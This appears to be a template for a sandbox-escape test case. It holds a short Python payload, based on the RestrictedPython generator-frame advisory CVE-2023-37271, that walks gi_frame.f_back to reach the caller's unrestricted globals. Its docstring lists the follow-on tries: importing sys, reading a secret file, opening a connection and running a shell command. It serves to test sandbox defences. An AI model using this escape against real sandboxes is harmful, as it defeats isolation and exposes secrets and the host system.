"""Walk from a generator's frame to the caller's globals.

Source: RestrictedPython advisory CVE-2023-37271 (generator frames): a
generator expression's gi_frame.f_back chain leaves the restricted code and
reaches the frames that run it, with their unrestricted globals; the
regression test is tests/test_generator_escape.py (test_2).
Tries: reach the worker's globals through gi_frame.f_back.f_back, import sys,
write the canary file, read the secret file and variable, connect to the
loopback listener, run a shell command.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

def rp_generator_frame_walk() -> dict:
    frames = (step.gi_frame.f_back.f_back for step in [1])
    frame = [found for found in frames][0]
    return claim_namespace(frame.f_globals)


{{CLAIM}}


{{CLAIM_NAMESPACE}}
